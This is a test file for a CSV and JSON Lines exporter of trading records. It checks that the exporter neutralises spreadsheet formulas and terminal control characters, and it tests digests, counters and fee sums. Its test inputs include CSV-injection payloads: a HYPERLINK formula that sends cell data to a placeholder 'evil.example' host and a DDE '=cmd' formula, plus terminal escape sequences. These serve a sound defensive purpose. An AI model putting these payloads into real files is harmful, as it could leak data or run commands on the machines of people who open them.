import { assert, assertEquals } from "@std/assert";
import { parse } from "@std/csv";
import { dayBookColumns } from "../../lib/day_book/rows/columns.ts";
import { checkAmount, checkFees } from "../../lib/day_book/checks/tally.ts";
import { csvCell, csvRecord } from "../../lib/csv_text.ts";
import { rowEncoder } from "../../lib/day_book/rows/files.ts";
import { plainText } from "../../lib/shown_text.ts";
import { randomFrom } from "../../lib/time.ts";
import { Digest, DigestCounts } from "../../lib/day_book/rows/keys.ts";
import { FeeItem } from "../../lib/dictionaries/fee_item.ts";
import { fillFields } from "../../lib/operations/fills.ts";
import { journalFields } from "../../lib/operations/fund_journal.ts";
import { futuresOrderFields } from "../../lib/operations/futures.ts";
import { orderFields } from "../../lib/operations/orders.ts";

Deno.test("csvRecord() follows RFC 4180, and a CSV reader returns what was written", () => {
  assertEquals(
    csvRecord(["a", "b,c", 'd"e', "f\r\ng", "", undefined, false, " x "], { exact: true }),
    'a,"b,c","d""e","f\r\ng",,,false," x "\r\n',
  );
  assertEquals(csvRecord(["b,c", "f\r\ng", "\t", " x "]), '"b,c",f\\u000d\\u000ag,\'\\u0009," x "\r\n');
  const odd = [
    "00700",
    "腾讯",
    "a,b",
    '"',
    "\n",
    "\r",
    "1e5",
    "'",
    "\t",
    "=1",
    "'=1",
    "''@",
    "-1",
    "＝1",
    "'x",
  ];
  assertEquals(parse(csvRecord(odd, { exact: true })), [odd]);
  assertEquals(parse(csvRecord(odd)).map((cells) => cells.map(plainText)), [odd]);
});

Deno.test("csvCell() writes no text that a spreadsheet runs as a formula, and keeps numbers as numbers", () => {
  const texts = [
    "=1+1",
    "+852 1234",
    "-cmd",
    "@SUM(A1)",
    "\tx",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "+",
    "-",
  ];
  for (const text of [...texts, "=a,b", '=HYPERLINK("http://evil.example?x="&A1,"x")']) {
    const [[cell = ""] = []] = parse(csvCell(text));
    const escapes = text.replace(/[\t\r\n]/g, (found) => `\\u000${found.charCodeAt(0).toString(16)}`);
    assertEquals(cell, `'${escapes}`);
    assertEquals(parse(csvCell(text, { exact: true })), [[text]], "a program gets the text itself");
  }
  for (const plain of ["-1", "+1", "-12345.678900", "0", "1e5", "a=1", "00700.HK", "2025-08-15"]) {
    assertEquals(csvCell(plain), plain);
  }
  const column = {
    name: "remark",
    meaning: "",
    unit: "",
    read: (row: Readonly<Record<string, unknown>>) => row.remark,
  };
  const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
  for (const text of ["=1+1", "-cmd", " =1", "'=1"]) {
    const safe = rowEncoder([column])({ remark: text }, context);
    assertEquals(safe, { csv: `${csvCell(text)}\r\n`, jsonl: `${JSON.stringify({ remark: text })}\n` });
    const exact = rowEncoder([column], { exact: true })({ remark: text }, context);
    assertEquals(exact.csv, csvRecord([text], { exact: true }));
  }
});

/** Characters with which texts attack a terminal, a spreadsheet, a CSV reader and our own escapes. */
const HOSTILE = [
  ..."=+-@＝;,'\"|\\ ua1",
  ..."\t\r\n\0\x07\x1b\x7f\x9b\u00ad\u061c\u200b\u200e\u202e\u2028\u2066\ufeff\u3164\u2800\ufe0f\u{e0041}\u{e0100}",
  "\\u001b",
  "\\u005c",
  "\\ud800",
  ";=",
  ';"=',
  "腾",
];

Deno.test("csvCell() writes texts that control no terminal and run in no spreadsheet, and plainText() reads them back", () => {
  const seed = 20251122;
  const random = randomFrom(seed);
  for (let round = 0; round < 20_000; round++) {
    const text = Array.from(
      { length: Math.floor(random() * 7) },
      () => HOSTILE[Math.floor(random() * HOSTILE.length)]!,
    ).join("");
    const what = `seed ${seed}: ${JSON.stringify(text)}`;
    const written = csvRecord([text, "next"]);
    const [[cell = "", next] = []] = parse(written);
    assertEquals([plainText(cell), next], [text, "next"], what);
    assert(!/[\p{Cc}\p{Cf}\p{DI}\u2028\u2029\u2800]/u.test(written.slice(0, -2)), what);
    // A spreadsheet that splits at `;` sees these parts, with or without the quotes around them.
    for (const [index, part] of written.slice(0, -2).replace(/,next$/, "").split(";").entries()) {
      const bare = index === 0 ? cell.split(";")[0]! : part.replace(/^["\s]+/, "");
      assert(!/^[=+\-@＝]/.test(bare) || /^[+-]?\d+(\.\d+)?"?$/.test(bare), `${what}: ${written}`);
    }
    // This reader changes line ends within quotes.
    const exact = csvRecord([text, "next"], { exact: true });
    assertEquals(parse(exact), [[text.replaceAll("\r\n", "\n"), "next"]], what);
  }
});

Deno.test("csvCell() quotes a text with a semicolon or a tab, and leaves harmless texts as they are", () => {
  assertEquals(csvCell("a;=1+1;b"), `"a;'=1+1;b"`);
  assertEquals(csvCell(`a;"=cmd|' /C calc'!A0;`), `"a;'""=cmd|' /C calc'!A0;"`);
  assertEquals(csvCell("a;b"), '"a;b"');
  assertEquals(csvCell("a;-1"), '"a;-1"');
  assertEquals(csvCell("a\tb", { exact: true }), '"a\tb"');
  for (const honest of ["腾讯控股", "BRK/B", "a'b", "C:\\users", "\\u12", "İş Bankası", "é"]) {
    assertEquals(csvCell(honest), honest);
  }
  assertEquals(csvCell("\x1b[2Jgnp\u202e"), "\\u001b[2Jgnp\\u202e");
  assertEquals(
    csvCell("\\u001b"),
    "\\u005cu001b",
    "a text that looks like an escape is not read as an escape",
  );
});

Deno.test("rowEncoder() writes characters that control a terminal as escapes, and JSON Lines lose nothing", () => {
  const read = (row: Readonly<Record<string, unknown>>) => row.name;
  const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
  const name = "\x1b[2J\x9b31m\u202egnp\u2066\u200b;=1\n";
  const [column, row] = [{ name: "name", meaning: "", unit: "", read }, { name }];
  const { csv, jsonl } = rowEncoder([column])(row, context);
  assertEquals(csv, `"\\u001b[2J\\u009b31m\\u202egnp\\u2066\\u200b;'=1\\u000a"\r\n`);
  assertEquals(jsonl, '{"name":"\\u001b[2J\\u009b31m\\u202egnp\\u2066\\u200b;=1\\n"}\n');
  assertEquals(JSON.parse(jsonl), row);
  assertEquals(rowEncoder([column], { exact: true })(row, context), { csv: `"${name}"\r\n`, jsonl });
  // The fast path for plain texts and `csvCell` agree, character by character.
  for (let code = 0x20; code < 0x7f; code++) {
    for (const text of [String.fromCharCode(code), `a${String.fromCharCode(code)}b`]) {
      const { csv, jsonl } = rowEncoder([column])({ name: text }, context);
      assertEquals([csv, JSON.parse(jsonl)], [csvRecord([text]), { name: text }]);
    }
  }
});

Deno.test("rowEncoder() writes the same value to CSV and JSON Lines, and leaves out absent values in both", () => {
  const column = (name: string) => ({
    name,
    meaning: "",
    unit: "",
    read: (row: Readonly<Record<string, unknown>>) => row[name],
  });
  const encode = rowEncoder(["a", "b", "c", "d", "e"].map(column));
  const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
  const row = { a: "1.50", b: 'x\\"y,\n', d: true, e: "腾讯" };
  const { csv, jsonl } = encode(row, context);
  assertEquals(csv, '1.50,"x\\""y,\\u000a",,true,腾讯\r\n');
  assertEquals(jsonl, '{"a":"1.50","b":"x\\\\\\"y,\\n","d":true,"e":"腾讯"}\n');
  assertEquals(JSON.parse(jsonl), row);
});

Deno.test("dayBookColumns contain every field of the catalogue except the cursor, each once", () => {
  const namesOf = (list: keyof typeof dayBookColumns) => dayBookColumns[list].map(({ name }) => name);
  const fieldsOf = (fields: object) =>
    Object.keys(fields).filter((name) => !["cursor", "fees"].includes(name));
  const sorted = (names: string[]) => [...names].sort();
  const added = ["rowKey", "currency"];
  assertEquals(sorted(namesOf("fills")), sorted([...added, ...fieldsOf(fillFields), ...FeeItem.names]));
  assertEquals(sorted(namesOf("orders")), sorted([...added, ...fieldsOf(orderFields)]));
  assertEquals(sorted(namesOf("futures_fills")), sorted(["rowKey", ...fieldsOf(futuresOrderFields)]));
  assertEquals(
    sorted(namesOf("fund_journal")),
    sorted([...added, "market", ...fieldsOf(journalFields), "typeCode", "typeMeaning"]),
  );
});

Deno.test("Digest distinguishes value boundaries, absent from empty, and order", () => {
  const digest = (...values: unknown[]) => {
    const made = new Digest();
    for (const value of values) made.add(value);
    return String(made);
  };
  const texts = [
    digest("ab", "c"),
    digest("a", "bc"),
    digest("abc"),
    digest("abc", ""),
    digest("abc", undefined),
    digest("c", "ab"),
    digest(),
    digest(""),
  ];
  assertEquals(new Set(texts).size, texts.length);
  assertEquals(digest("ab", "c"), texts[0]);
  assertEquals(texts.every((text) => /^[0-9a-f]{16}$/.test(text)), true);
  const many = new Set(
    Array.from({ length: 100_000 }, (_, index) => digest(`12508150${index}`, "00700.HK", "buy")),
  );
  assertEquals(many.size, 100_000);
});

Deno.test("DigestCounts counts like a map, also after it grows", () => {
  const counts = new DigestCounts();
  const expected = new Map<string, number>();
  for (let index = 0; index < 20_000; index++) {
    const digest = new Digest().add((index * 7919) % 6007);
    const wanted = (expected.get(String(digest)) ?? 0) + 1;
    expected.set(String(digest), wanted);
    if (counts.next(digest) !== wanted) throw new Error(`${index}: not ${wanted}`);
  }
  assertEquals(expected.size, 6007);
});

Deno.test("DigestCounts counts beyond the range of a byte, and counts down again", () => {
  const counts = new DigestCounts();
  const [same, other] = [new Digest().add("same"), new Digest().add("other")];
  for (let count = 1; count <= 600; count++) assertEquals(counts.next(same), count);
  assertEquals([counts.next(other), counts.next(same)], [1, 601]);
  for (let left = 601; left > 0; left--) assertEquals(counts.take(same), true);
  assertEquals([counts.take(same), counts.take(new Digest().add("never"))], [false, false]);
  assertEquals([counts.next(same), counts.take(other), counts.take(other)], [1, true, false]);
});

Deno.test("DigestCounts distinguishes a million rows", () => {
  const counts = new DigestCounts();
  const digest = new Digest();
  let repeated = 0;
  for (let index = 0; index < 1_000_000; index++) {
    if (counts.next(digest.reset().add(`12508150${index}`).add("00700.HK")) > 1) repeated++;
  }
  assertEquals(repeated, 0);
  assertEquals(counts.next(digest.reset().add("12508150999999").add("00700.HK")), 2);
});

Deno.test("checkFees() adds up the items exactly", () => {
  assertEquals(checkFees(["0.1", "0.2"], "0.30"), undefined);
  assertEquals(checkFees([], "0"), undefined);
  assertEquals(
    checkFees(["1e-27", "1"], "1")?.message,
    "the fees add up to 1.000000000000000000000000001, but the total is 1",
  );
  assertEquals(checkFees([], "1.00"), {
    expected: "0",
    actual: "1.00",
    message: "the fees add up to 0, but the total is 1.00",
  });
});

Deno.test("checkAmount() allows a difference of half a cent, and at a rounded mean price also half of its last decimal for each share", () => {
  const check = (price: string, quantity: string, amount: string, merged = false) =>
    checkAmount({ symbol: "00700.HK", market: "hk", merged, price, quantity, amount }) === undefined;
  assertEquals(check("0.333", "5", "1.665"), true);
  assertEquals(check("0.333", "5", "1.67"), true);
  assertEquals(check("0.333", "5", "1.66"), true);
  assertEquals(check("0.333", "5", "1.671"), false);
  // 1000 shares, each with half of 0.0001, allow 0.05; half a cent is added.
  assertEquals(check("10.3333", "1000", "10333.30", true), true);
  assertEquals(check("10.3333", "1000", "10333.355", true), true);
  assertEquals(check("10.3333", "1000", "10333.356", true), false);
  assertEquals(check("10.3333", "1000", "10333.245", true), true);
  assertEquals(check("10.3333", "1000", "10333.244", true), false);
  assertEquals(check("10.3333", "1000", "10333.355", false), false);
  // Ticks have at most three decimals, so these prices are not rounded means.
  assertEquals(check("10.333", "1000", "10333.005", true), true);
  assertEquals(check("10.333", "1000", "10333.01", true), false);
  assertEquals(check("10", "100", "1000.01", true), false);
  assertEquals(check("10", "100", "999.99", true), false);
});
